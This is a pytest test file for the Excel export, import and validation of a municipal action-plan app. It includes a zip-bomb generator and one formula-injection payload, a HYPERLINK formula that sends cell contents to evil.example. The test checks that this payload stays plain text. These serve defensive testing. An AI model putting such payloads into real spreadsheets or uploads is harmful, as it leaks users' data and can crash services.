"""The action plan in Excel: export, import, and the round trip between them (planning/exchange/action_plan.py)."""

import zipfile
from datetime import datetime
from decimal import Decimal
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from openpyxl import Workbook, load_workbook

from planning.demo.sample import build_program
from planning.exchange.action_plan import (
    MAX_ROWS,
    ImportError,
    ImportResult,
    export_action_plan,
    import_action_plan,
)
from planning.models import Activity, FundingLine, FundingSource, Program, Sector
from planning.reference import load_reference
from planning.selectors import plan_tree
from tests.factories import (
    ActivityFactory,
    MunicipalityFactory,
    UserFactory,
    VillageFactory,
)

pytestmark = pytest.mark.django_db

# build_program(activities=12) over 2025–2027: objectives 1.1.1 and 1.1.2 have five activities
# each, 1.2.1 has two. Each activity has two sources, one row each: activity 1.1.1.1 is on rows
# 3 (local budget) and 4 (republican budget), runs 2025–2026 and is in the village.
FIRST = 3


@pytest.fixture(autouse=True)
def english():
    """Messages and headers in English unless a test says otherwise."""
    with translation.override("en"):
        yield


@pytest.fixture
def program():
    load_reference()
    municipality = MunicipalityFactory()
    VillageFactory(municipality=municipality, name_ky="Көк-Жар", name_ru="Кок-Жар", name_en="Kok-Jar")
    return build_program(municipality=municipality, activities=12, start_year=2025, years=3)


def source(code: str) -> FundingSource:
    return FundingSource.objects.get(code=code)


def plan(program: Program) -> list[tuple]:
    """Every activity and its funding lines, field by field, in plan order."""
    return [
        (
            a.code,
            a.pk,
            a.objective_id,
            a.title,
            a.sector_id,
            a.responsible,
            a.village_id,
            a.start_year,
            a.end_year,
            a.expected_result,
            tuple(getattr(a, name) for name in Activity.TAG_FIELDS),
            sorted((line.source_id, line.year, line.amount) for line in a.line_list),
        )
        for a in plan_tree(program).activities
    ]


def database() -> tuple:
    """The whole state an import could touch, history included."""
    return (
        sorted(Activity.objects.values_list()),
        sorted(FundingLine.objects.values_list()),
        Activity.history.count(),
        FundingLine.history.count(),
    )


def edit(data: bytes, change) -> bytes:
    """Open an exported workbook, let `change(sheet, column)` edit it, and save it again."""
    workbook = load_workbook(BytesIO(data))
    sheet = workbook.worksheets[0]
    columns = {str(cell.value): cell.column for cell in sheet[2] if cell.value is not None}

    def column(label) -> int:
        return columns[str(label)]

    change(sheet, column)
    buffer = BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def set_cells(data: bytes, *cells: tuple[int, str, object]) -> bytes:
    """Edit cells given as (row, column title, value)."""

    def change(sheet, column):
        for row, label, value in cells:
            sheet.cell(row, column(label)).value = value

    return edit(data, change)


def errors(result: ImportResult) -> list[tuple]:
    return [(e.row, e.column, e.message) for e in result.errors]


def rejected(program: Program, data) -> list[tuple]:
    """Import a file that must fail; check that nothing changed and return the problems."""
    before = database()
    result = import_action_plan(program, data)
    assert not result.ok
    assert (result.created, result.updated, result.lines) == (0, 0, 0)
    assert database() == before
    return errors(result)


# --- Export ----------------------------------------------------------------------------------


@pytest.mark.parametrize("language", ["ky", "ru"])
def test_export_has_the_header_in_the_active_language(program, language):
    with translation.override(language):
        data = export_action_plan(program)
        expected = [
            translation.gettext(label)
            for label in (
                "Code", "Activity", "Sector", "Responsible", "Village", "From year", "To year",
                "Expected result", "Women", "Youth", "Elderly people", "People with disabilities",
                "Low-income families", "Climate change adaptation", "Funding source",
            )
        ] + ["2025", "2026", "2027", translation.gettext("Total, KGS")]  # fmt: skip
        sheet_title = translation.gettext("Action plan")
    workbook = load_workbook(BytesIO(data))
    sheet = workbook.worksheets[0]
    assert sheet.title == sheet_title
    assert [cell.value for cell in sheet[2]] == expected
    title = sheet.cell(1, 1).value
    assert program.title in title and "2025–2027" in title
    # Reference names follow the language; what the municipality wrote does not.
    local = source("local-budget")
    assert sheet.cell(FIRST, 15).value == getattr(local, f"name_{language}")
    assert sheet.cell(FIRST, 5).value == ("Көк-Жар" if language == "ky" else "Кок-Жар")
    assert sheet.cell(FIRST, 2).value == "Иш-чара 1"


def test_export_has_one_row_per_activity_and_source_with_numbers(program):
    objective = plan_tree(program).objectives[0]
    ActivityFactory(objective=objective, title="No money yet", sector=Sector.objects.first(), order=99)
    tree = plan_tree(program)

    sheet = load_workbook(BytesIO(export_action_plan(program))).worksheets[0]
    rows = list(sheet.iter_rows(min_row=FIRST, values_only=True))

    expected_rows = sum(max(1, len({line.source_id for line in a.line_list})) for a in tree.activities)
    assert len(rows) == expected_rows == 12 * 2 + 1
    assert [row[0] for row in rows[:4]] == ["1.1.1.1", "1.1.1.1", "1.1.1.2", "1.1.1.2"]
    # Activity 1.1.1.1: its columns on both rows, one source each, amounts per year as numbers.
    first, second = rows[0], rows[1]
    assert first[:15] == (
        "1.1.1.1", "Иш-чара 1", Sector.objects.get(code="population").name_en, "Айыл өкмөтү",
        "Kok-Jar", 2025, 2026, None, "✓", None, None, None, None, "✓", "Local budget",
    )  # fmt: skip
    assert second[:14] == first[:14]
    assert second[14] == "Republican budget"
    assert first[15:18] == (10000, 10000, None)
    assert all(isinstance(v, int | float) for v in first[15:17])
    assert sheet.cell(FIRST, 16).number_format == "#,##0.00"
    assert first[18] == "=SUM(P3:R3)"
    # The new activity has no funding: one row, no source, no amounts, no total.
    extra = next(row for row in rows if row[1] == "No money yet")
    assert extra[0] == "1.1.1.6"
    assert extra[14:] == (None, None, None, None, None)


def test_export_is_laid_out_for_people(program):
    workbook = load_workbook(BytesIO(export_action_plan(program)))
    sheet, lists = workbook.worksheets
    assert sheet.freeze_panes == "C3"
    assert all(cell.font.bold for cell in sheet[2])
    assert sheet.cell(FIRST, 2).alignment.wrap_text
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["A"].width
    # The second sheet: objectives with their codes, sectors, sources, villages.
    values = {cell.value for row in lists.iter_rows() for cell in row}
    assert {"1.1.1", "1.1.2", "1.2.1", "Тапшырма 1"} <= values
    assert {"Drinking water", "drinking-water", "Local budget", "local-budget", "Kok-Jar"} <= values
    assert lists.title == "Lists"
    assert len(sheet.data_validations.dataValidation) >= 3


def test_export_runs_a_fixed_number_of_queries(django_assert_max_num_queries):
    load_reference()
    program = build_program(municipality=MunicipalityFactory(), activities=60)
    program = Program.objects.get(pk=program.pk)
    # municipality, plan_tree (priorities, goals, objectives, activities, lines), sectors,
    # funding sources, villages
    with django_assert_max_num_queries(9):
        export_action_plan(program)


# --- Round trip ------------------------------------------------------------------------------


@pytest.mark.parametrize("language", ["en", "ky", "ru"])
def test_round_trip_leaves_the_plan_unchanged(program, language):
    before, state = plan(program), database()
    with translation.override(language):
        result = import_action_plan(program, export_action_plan(program))
    assert result == ImportResult(ok=True, errors=[], created=0, updated=0, lines=0)
    assert plan(program) == before
    assert database() == state  # not even a history row


def test_import_of_an_edited_file_changes_exactly_that(program):
    before = plan(program)
    user = UserFactory()
    data = set_cells(
        export_action_plan(program),
        (FIRST, "2025", 12345.67),  # 1.1.1.1, local budget
        (5, "Activity", "Иш-чара 2, жаңыланган"),  # 1.1.1.2 is on rows 5 and 6
        (6, "Activity", "Иш-чара 2, жаңыланган"),
    )

    def add_row(sheet, column):
        row = sheet.max_row + 1
        for label, value in [
            ("Code", "1.1.1.6"), ("Activity", "Жаңы көпүрө"), ("Sector", "Roads and transport"),
            ("Responsible", "Айыл өкмөтү"), ("From year", 2026), ("To year", 2027),
            ("Youth", "✓"), ("Funding source", "Local budget"), ("2026", 500), ("2027", 700.5),
        ]:  # fmt: skip
            sheet.cell(row, column(label)).value = value

    result = import_action_plan(program, edit(data, add_row), user=user)

    assert errors(result) == []
    assert (result.ok, result.created, result.updated, result.lines) == (True, 1, 2, 3)
    after = plan(program)
    expected = [list(row) for row in before]
    local, roads = source("local-budget").pk, Sector.objects.get(code="roads").pk
    expected[0][11] = sorted(
        (s, y, Decimal("12345.67") if (s, y) == (local, 2025) else a) for s, y, a in expected[0][11]
    )
    expected[1][3] = "Иш-чара 2, жаңыланган"
    new = after[5]
    assert new[0] == "1.1.1.6" and new[2] == before[0][2]
    expected.insert(5, [
        "1.1.1.6", new[1], before[0][2], "Жаңы көпүрө", roads, "Айыл өкмөтү", None, 2026, 2027, "",
        (False, True, False, False, False, False),
        sorted([(local, 2026, Decimal("500.00")), (local, 2027, Decimal("700.50"))]),
    ])  # fmt: skip
    assert after == [tuple(row) for row in expected]
    # The history says who did it.
    assert Activity.history.filter(history_type="+").get().history_user == user
    assert Activity.history.filter(history_type="~").get().title == "Иш-чара 2, жаңыланган"
    assert FundingLine.history.filter(history_type="~").get().history_user == user


def test_an_emptied_row_removes_its_funding_lines(program):
    before = plan(program)
    data = set_cells(export_action_plan(program), (FIRST, "2025", None), (FIRST, "2026", None))
    result = import_action_plan(program, data)
    assert (result.ok, result.updated, result.lines) == (True, 1, 0)
    assert len(plan(program)[0][11]) == len(before[0][11]) - 2
    assert FundingLine.history.filter(history_type="-").count() == 2


def test_a_further_row_with_only_code_source_and_amounts_belongs_to_the_activity_above(program):
    def add_row(sheet, column):
        sheet.insert_rows(5)
        for label, value in [("Code", "1.1.1.1"), ("Funding source", "Donors (international organisations)"), ("2025", 3000)]:  # fmt: skip
            sheet.cell(5, column(label)).value = value

    result = import_action_plan(program, edit(export_action_plan(program), add_row))
    assert errors(result) == []
    assert (result.updated, result.lines) == (1, 1)
    assert (source("donors").pk, 2025, Decimal("3000.00")) in plan(program)[0][11]


def test_names_in_another_language_or_codes_are_accepted(program):
    before = plan(program)
    with translation.override("ky"):
        data = export_action_plan(program)
    sector = Sector.objects.get(code="population")

    def change(sheet, column):
        # Columns by position, whatever the header's language: 3 sector, 5 village, 15 source.
        sheet.cell(FIRST, 3).value = f"  {sector.name_ru.upper()} "
        sheet.cell(FIRST + 1, 3).value = sector.name_en
        sheet.cell(FIRST, 15).value = "Жергиликтуу бюджет"  # typed without Kyrgyz letters
        sheet.cell(FIRST + 1, 15).value = "republican-budget"
        sheet.cell(5, 15).value = " республиканский  бюджет"
        sheet.cell(FIRST, 5).value = "kok-jar"
        sheet.cell(FIRST + 1, 5).value = "Кок-Жар"

    with translation.override("ru"):
        result = import_action_plan(program, edit(data, change))
    assert errors(result) == []
    assert result.ok and (result.updated, result.lines) == (0, 0)
    assert plan(program) == before


def test_activities_the_file_does_not_mention_are_left_alone(program):
    before = plan(program)

    def keep_only_activity_1_1_1_2(sheet, column):
        sheet.delete_rows(7, 100)  # everything after 1.1.1.2 (rows 5 and 6)
        sheet.delete_rows(FIRST, 2)  # and 1.1.1.1 before it
        sheet.cell(FIRST, column("Responsible")).value = "Мектеп"
        sheet.cell(FIRST + 1, column("Responsible")).value = "Мектеп"

    result = import_action_plan(program, edit(export_action_plan(program), keep_only_activity_1_1_1_2))
    assert errors(result) == []
    assert (result.created, result.updated, result.lines) == (0, 1, 0)
    expected = [list(row) for row in before]
    expected[1][5] = "Мектеп"
    assert plan(program) == [tuple(row) for row in expected]


def test_several_new_activities_take_the_next_numbers_in_turn(program):
    def add_rows(sheet, column):
        for code, title, amount in [("1.2.1.3", "Спорт аянтча", None), ("1.2.1.4", "Китепкана", 900)]:
            row = sheet.max_row + 1
            for label, value in [
                ("Code", code), ("Activity", title), ("Sector", "culture-sport"),
                ("Responsible", "Айыл өкмөтү"), ("Village", "Көк-Жар"), ("From year", 2027),
                ("To year", 2027), ("Expected result", "Жаштар үчүн"),
            ]:  # fmt: skip
                sheet.cell(row, column(label)).value = value
            if amount:
                sheet.cell(row, column("Funding source")).value = "Жеке сектор"
                sheet.cell(row, column("2027")).value = amount

    result = import_action_plan(program, edit(export_action_plan(program), add_rows))
    assert errors(result) == []
    assert (result.created, result.updated, result.lines) == (2, 0, 1)
    tree = plan_tree(program)
    sport, library = tree.objectives[2].activity_list[2:]
    assert (sport.code, sport.title, sport.line_list) == ("1.2.1.3", "Спорт аянтча", [])
    assert (sport.village.name_ky, sport.expected_result, sport.sector.code) == ("Көк-Жар", "Жаштар үчүн", "culture-sport")  # fmt: skip
    assert library.code == "1.2.1.4"
    assert [(line.source.code, line.year, line.amount) for line in library.line_list] == [
        ("private-sector", 2027, Decimal("900.00"))
    ]


def test_odd_cell_values_are_reported_not_raised(program):
    when = datetime(2026, 1, 1, 12, 0)
    data = set_cells(
        export_action_plan(program),
        (FIRST, "Code", when),
        (FIRST, "Activity", True),
        (FIRST, "From year", when),
        (FIRST, "To year", 2026.5),
        (FIRST, "Women", when),
        (FIRST, "2025", True),
        (FIRST, "2026", "≈100"),
        (FIRST + 1, "2025", "1 250,50"),  # text with a space and a decimal comma is read
    )
    found = rejected(program, data)
    assert {(column, message.split(" ")[0]) for _row, column, message in found} == {
        ("Code", "«2026-01-01"),
        ("From year", "«2026-01-01"),
        ("To year", "«2026.5»"),
        ("Women", "«2026-01-01"),
        ("2025", "«True»"),
        ("2026", "«≈100»"),
    }


def test_import_takes_an_uploaded_file_or_a_path(program, tmp_path):
    data = export_action_plan(program)
    upload = SimpleUploadedFile("plan.xlsx", data, content_type="application/octet-stream")
    assert import_action_plan(program, upload).ok
    path = tmp_path / "plan.xlsx"
    path.write_bytes(data)
    assert import_action_plan(program, path).ok
    assert import_action_plan(program, str(path)).ok


def test_round_trip_of_300_activities_keeps_queries_flat(django_assert_max_num_queries):
    load_reference()
    program = build_program(municipality=MunicipalityFactory(), activities=300)
    before = plan(program)
    data = export_action_plan(program)
    # savepoint, the program locked with its municipality, plan_tree (priorities, goals,
    # objectives, activities, lines), sectors, funding sources, villages, the action plan's edit
    # locks moved on (one UPDATE, inside the import's transaction), release
    with django_assert_max_num_queries(12):
        result = import_action_plan(program, data)
    assert result.ok and (result.created, result.updated, result.lines) == (0, 0, 0)
    assert plan(program) == before


# --- One bad row changes nothing -------------------------------------------------------------


def test_one_bad_row_among_good_ones_changes_nothing(program):
    data = set_cells(
        export_action_plan(program),
        (FIRST, "2025", 99999),  # a good change that must not be applied
        (7, "Activity", "Жаңы аталыш"),
        (8, "Activity", "Жаңы аталыш"),
        (9, "Funding source", "Ачык булак"),
    )
    assert rejected(program, data) == [
        (9, "Funding source", "«Ачык булак» is not a known funding source (see the sheet 'Lists')."),
    ]


def test_problems_are_reported_in_kyrgyz_when_the_language_is_kyrgyz(program):
    with translation.override("ky"):
        data = set_cells(
            export_action_plan(program), (9, translation.gettext("Funding source"), "Ачык булак")
        )
        before = database()
        result = import_action_plan(program, data)
        msgid = "«%(value)s» is not a known funding source (see the sheet '%(sheet)s')."
        expected = (
            9,
            translation.gettext("Funding source"),
            translation.gettext(msgid) % {"value": "Ачык булак", "sheet": translation.gettext("Lists")},
        )
        text = str(result.errors[0])
        row_msgid = "Row %(row)s, '%(column)s': %(message)s"
        translated = translation.gettext(msgid) != msgid
        row_text = translation.gettext(row_msgid) % dict(
            zip(("row", "column", "message"), expected, strict=True)
        )
    assert database() == before
    assert errors(result) == [expected]
    assert text == row_text
    if translated:  # once the Kyrgyz catalogue has the message (locale/ky)
        assert "is not a known" not in expected[2]
    with translation.override("en"):
        english = import_action_plan(program, data).errors[0].message
    assert english == "«Ачык булак» is not a known funding source (see the sheet 'Lists')."


def test_error_reads_as_a_sentence():
    error = ImportError(row=14, column="From year", message="2031 is outside the program period 2025–2027.")
    assert str(error) == "Row 14, 'From year': 2031 is outside the program period 2025–2027."
    assert str(ImportError(row=None, column="", message="The file is empty.")) == "The file is empty."


# --- Each rule -------------------------------------------------------------------------------

OUTSIDE = "2031 is outside the program period 2025–2027."


@pytest.mark.parametrize(
    ("cells", "expected"),
    [
        pytest.param(
            [(FIRST, "From year", 2031), (FIRST + 1, "From year", 2031)],
            [(FIRST, "From year", OUTSIDE), (FIRST + 1, "From year", OUTSIDE)],
            id="year-outside-period",
        ),
        pytest.param(
            [(FIRST, "To year", "next year")],
            [(FIRST, "To year", "«next year» is not a year.")],
            id="year-not-a-year",
        ),
        pytest.param(
            [(FIRST, "From year", 2027), (FIRST + 1, "From year", 2027)],
            [
                (FIRST, "To year", "The activity cannot end in 2026, before it starts in 2027."),
                (FIRST + 1, "To year", "The activity cannot end in 2026, before it starts in 2027."),
                (FIRST, "2025", "2025 is outside the activity's years 2027–2026."),
                (FIRST, "2026", "2026 is outside the activity's years 2027–2026."),
                (FIRST + 1, "2025", "2025 is outside the activity's years 2027–2026."),
                (FIRST + 1, "2026", "2026 is outside the activity's years 2027–2026."),
            ],
            id="end-before-start",
        ),
        pytest.param(
            [(FIRST, "2027", 100)],
            [(FIRST, "2027", "2027 is outside the activity's years 2025–2026.")],
            id="amount-outside-activity-years",
        ),
        pytest.param(
            [(FIRST, "Funding source", "Ачык булак")],
            [
                (
                    FIRST,
                    "Funding source",
                    "«Ачык булак» is not a known funding source (see the sheet 'Lists').",
                )
            ],
            id="unknown-source",
        ),
        pytest.param(
            [(FIRST, "Sector", "Space"), (FIRST + 1, "Sector", "Space")],
            [
                (FIRST, "Sector", "«Space» is not a known sector (see the sheet 'Lists')."),
                (FIRST + 1, "Sector", "«Space» is not a known sector (see the sheet 'Lists')."),
            ],
            id="unknown-sector",
        ),
        pytest.param(
            [(FIRST, "Code", "1.4.2.1"), (FIRST + 1, "Code", "1.4.2.1")],
            [(FIRST, "Code", "objective 1.4.2 does not exist in this program.")],
            id="unknown-objective",
        ),
        pytest.param(
            [(FIRST, "Code", "1.1.1.8"), (FIRST + 1, "Code", "1.1.1.8")],
            [
                (
                    FIRST,
                    "Code",
                    "there is no activity 1.1.1.8; a new activity of objective 1.1.1 must take the next free number, 1.1.1.6.",
                )
            ],
            id="code-gap",
        ),
        pytest.param(
            [(FIRST, "Code", "1.1-1")],
            [
                (
                    FIRST,
                    "Code",
                    "«1.1-1» is not an activity code; an activity code has four numbers, for example 1.2.1.3.",
                )
            ],
            id="code-malformed",
        ),
        pytest.param(
            [(FIRST, "Code", None)],
            [(FIRST, "Code", "the code is empty; every row needs its activity's code, for example 1.2.1.3.")],
            id="code-missing",
        ),
        pytest.param(
            [(FIRST, "2025", -5)],
            [(FIRST, "2025", "-5 is negative; an amount cannot be less than zero.")],
            id="negative-amount",
        ),
        pytest.param(
            [(FIRST, "2025", 10.555)],
            [(FIRST, "2025", "10.555 has more than two decimals; amounts are in som and tyiyn.")],
            id="three-decimals",
        ),
        pytest.param(
            [(FIRST, "2025", "1.000")],
            [(FIRST, "2025", "1.000 has more than two decimals; amounts are in som and tyiyn.")],
            id="three-decimals-as-text",
        ),
        pytest.param(
            [(FIRST, "2025", "ten thousand")],
            [
                (
                    FIRST,
                    "2025",
                    "«ten thousand» is not a number; write the amount in som, for example 150000 or 1250.50.",
                )
            ],
            id="amount-not-a-number",
        ),
        pytest.param(
            [(FIRST, "2025", 1e13)],
            [(FIRST, "2025", "10000000000000 is too large for an amount.")],
            id="amount-too-large",
        ),
        pytest.param(
            [(FIRST, "Funding source", None)],
            [(FIRST, "Funding source", "the row has amounts, so it needs a funding source.")],
            id="amounts-without-source",
        ),
        pytest.param(
            [(FIRST, "Activity", None)],
            [(FIRST, "Activity", "this cell must be filled in.")],
            id="missing-activity",
        ),
        pytest.param(
            [(FIRST, "Responsible", "  ")],
            [(FIRST, "Responsible", "this cell must be filled in.")],
            id="missing-responsible",
        ),
        pytest.param(
            [(FIRST, "Sector", None)],
            [(FIRST, "Sector", "this cell must be filled in.")],
            id="missing-sector",
        ),
        pytest.param(
            [(FIRST, "Activity", "x" * 501), (FIRST + 1, "Activity", "x" * 501)],
            [
                (FIRST, "Activity", "the text has 501 characters; at most 500 are allowed."),
                (FIRST + 1, "Activity", "the text has 501 characters; at most 500 are allowed."),
            ],
            id="text-too-long",
        ),
        pytest.param(
            [(FIRST + 1, "Funding source", "Local budget")],
            [
                (
                    FIRST + 1,
                    "Funding source",
                    "«Local budget» is already on row 3 for activity 1.1.1.1; put all its amounts on one row.",
                )
            ],
            id="same-source-twice",
        ),
        pytest.param(
            [(FIRST + 1, "Responsible", "Мектеп")],
            [
                (
                    FIRST + 1,
                    "Responsible",
                    "«Мектеп» differs from «Айыл өкмөтү» on row 3 of the same activity 1.1.1.1; an activity's columns must be the same on all its rows.",
                )
            ],
            id="conflicting-columns",
        ),
        pytest.param(
            [(FIRST + 1, "Youth", "✓")],
            [
                (
                    FIRST + 1,
                    "Youth",
                    "«✓» differs from (empty) on row 3 of the same activity 1.1.1.1; an activity's columns must be the same on all its rows.",
                )
            ],
            id="conflicting-tags",
        ),
        pytest.param(
            [(FIRST, "Women", "maybe")],
            [(FIRST, "Women", "«maybe» is not understood; put ✓ for yes or leave the cell empty.")],
            id="tag-not-understood",
        ),
        pytest.param(
            [(FIRST, "Village", "Atlantis"), (FIRST + 1, "Village", "Atlantis")],
            [
                (
                    FIRST,
                    "Village",
                    "«Atlantis» is not a village of Aiyl {n} aiyl aimak (see the sheet 'Lists').",
                ),
                (
                    FIRST + 1,
                    "Village",
                    "«Atlantis» is not a village of Aiyl {n} aiyl aimak (see the sheet 'Lists').",
                ),
            ],
            id="unknown-village",
        ),
    ],
)
def test_each_rule_is_checked(program, cells, expected):
    name = program.municipality.name_en.split()[1]
    expected = [(row, column, message.replace("{n}", name)) for row, column, message in expected]
    found = rejected(program, set_cells(export_action_plan(program), *cells))
    assert sorted(found) == sorted(expected)


def test_a_year_column_outside_the_period_is_refused_when_it_has_amounts(program):
    def add_column(sheet, column):
        col = sheet.max_column + 1
        sheet.cell(2, col).value = "2028"
        sheet.cell(FIRST, col).value = 100

    assert rejected(program, edit(export_action_plan(program), add_column)) == [
        (FIRST, "2028", "2028 is outside the program period 2025–2027.")
    ]


def test_a_switched_off_source_may_stay_but_not_spread(program):
    donors = source("donors")
    donors.is_active = False
    donors.save()
    data = set_cells(export_action_plan(program), (FIRST, "Funding source", donors.name_en))
    assert rejected(program, data) == [
        (
            FIRST,
            "Funding source",
            "«Donors (international organisations)» is no longer in use; choose another one from the sheet 'Lists'.",
        )
    ]


def test_too_many_rows_are_refused(program):
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append(["Code", "Activity", "Sector", "Responsible", "Village", "From year", "To year", "Expected result", "Women", "Youth", "Elderly people", "People with disabilities", "Low-income families", "Climate change adaptation", "Funding source", "2025"])  # fmt: skip
    for _ in range(MAX_ROWS + 1):
        sheet.append(["1.1.1.1", "Иш-чара", "Health", "Айыл өкмөтү"])
    buffer = BytesIO()
    workbook.save(buffer)
    assert rejected(program, buffer.getvalue()) == [
        (
            None,
            "",
            "The file has more than 5000 rows. Split the plan into several files: activities a file does not mention are left as they are.",
        )
    ]


def test_a_missing_column_is_named(program):
    data = edit(export_action_plan(program), lambda sheet, column: sheet.delete_cols(column("Responsible")))
    assert rejected(program, data) == [
        (2, "Responsible", "the column 'Responsible' is missing from the header row.")
    ]


def test_a_sheet_without_the_header_row_is_refused(program):
    workbook = Workbook()
    workbook.active.append(["Иш-чаралар", "сумма"])
    workbook.active.append(["Жол", 1000])
    buffer = BytesIO()
    workbook.save(buffer)
    [(row, _column, message)] = rejected(program, buffer.getvalue())
    assert row is None and message.startswith(
        "The header row of the action plan was not found: no sheet has a row"
    )


def test_a_file_with_no_rows_is_refused(program):
    data = edit(export_action_plan(program), lambda sheet, column: sheet.delete_rows(FIRST, 100))
    assert rejected(program, data) == [(None, "", "The file has no activity rows below the header row.")]


def test_a_program_that_is_not_a_draft_is_not_changed(program):
    program.status = Program.Status.APPROVED
    program.save()
    [(_row, _column, message)] = rejected(program, export_action_plan(program))
    assert message == "The program cannot be changed in its current status (approved by the council)."


# --- Not an Excel workbook -------------------------------------------------------------------

NOT_XLSX = "The file is not an Excel workbook (.xlsx). Download the action plan template, fill it in and upload it again."  # fmt: skip
UNREADABLE = "The Excel file could not be read. Open it in Excel, save it again as an Excel workbook (.xlsx) and upload it again."  # fmt: skip


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _bomb() -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as entry:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(101):
                entry.write(chunk)
    return buffer.getvalue()


def _damaged_sheet(data: bytes) -> bytes:
    with zipfile.ZipFile(BytesIO(data)) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    entries["xl/worksheets/sheet1.xml"] = b"<worksheet><sheetData><row><c r='A1' t='s'><v>99"
    return _zip(entries)


@pytest.mark.parametrize(
    ("make", "message"),
    [
        pytest.param(lambda data: b"not excel", NOT_XLSX, id="text"),
        pytest.param(lambda data: b"", "The file is empty.", id="empty"),
        pytest.param(lambda data: b"\x89PNG\r\n\x1a\n" + b"\0" * 64, NOT_XLSX, id="png"),
        pytest.param(lambda data: data[: len(data) // 2], NOT_XLSX, id="truncated"),
        pytest.param(lambda data: _zip({"readme.txt": b"hello"}), NOT_XLSX, id="other-zip"),
        pytest.param(
            lambda data: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512,
            "This is an old Excel 97–2003 file (.xls) or a file protected with a password. Open it in Excel, save it as an Excel workbook (.xlsx) without a password and upload it again.",
            id="xls",
        ),
        pytest.param(
            lambda data: _bomb(),
            "The Excel file is damaged or unpacks to an unreasonable size, so it was not read.",
            id="zip-bomb",
        ),
        pytest.param(_damaged_sheet, UNREADABLE, id="damaged-sheet"),
        pytest.param(
            lambda data: b"x" * (5 * 1024 * 1024 + 1), "The file is larger than 5 MB.", id="too-big"
        ),
    ],
)
def test_a_file_that_is_not_a_workbook_gives_an_error_not_an_exception(program, make, message):
    assert rejected(program, make(export_action_plan(program))) == [(None, "", message)]


def test_a_path_that_cannot_be_opened_gives_an_error(program, tmp_path):
    assert rejected(program, tmp_path / "missing.xlsx") == [(None, "", "The file could not be opened.")]


def test_text_that_looks_like_a_formula_stays_text_and_round_trips(reference):
    """A title like "=HYPERLINK(...)" must not become a live formula in anyone's Excel."""
    from io import BytesIO

    from openpyxl import load_workbook

    from planning.demo.sample import build_program
    from planning.exchange.action_plan import export_action_plan, import_action_plan
    from planning.exchange.financial_model import export_financial_model
    from planning.models import Activity, Priority
    from tests.factories import MunicipalityFactory

    program = build_program(municipality=MunicipalityFactory(), activities=2)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    Activity.objects.filter(objective__goal__priority__program=program).update(title=hostile)
    Priority.objects.filter(program=program).update(title=hostile)
    book = load_workbook(BytesIO(export_action_plan(program)))
    cells = [c for row in book.worksheets[0].iter_rows() for c in row if c.value == hostile]
    assert cells and all(c.data_type == "s" for c in cells)
    finance = load_workbook(BytesIO(export_financial_model(program)))
    cells = [
        c for sheet in finance.worksheets for row in sheet.iter_rows() for c in row if c.value == hostile
    ]
    assert cells and all(c.data_type == "s" for c in cells)
    assert import_action_plan(program, export_action_plan(program)).ok
    assert set(
        Activity.objects.filter(objective__goal__priority__program=program).values_list("title", flat=True)
    ) == {hostile}


def test_the_import_itself_moves_the_action_plan_locks_so_an_older_page_cannot_overwrite_it(program):
    """The locks move in the import's own transaction, whoever calls it (the page, a script)."""
    from planning.authoring.locking import EditConflict, claim_part, current_lock

    priority = program.priorities.order_by("order").first()
    part = f"action_plan:{priority.pk}"
    opened_with = current_lock(program, part).version
    assert import_action_plan(program, export_action_plan(program)).ok
    assert current_lock(program, part).version != opened_with
    with pytest.raises(EditConflict):
        claim_part(program, part, opened_with, None)


def test_a_refused_import_leaves_the_locks_alone(program):
    from planning.authoring.locking import current_lock

    priority = program.priorities.order_by("order").first()
    part = f"action_plan:{priority.pk}"
    opened_with = current_lock(program, part).version
    assert not import_action_plan(program, b"not a workbook").ok
    assert current_lock(program, part).version == opened_with
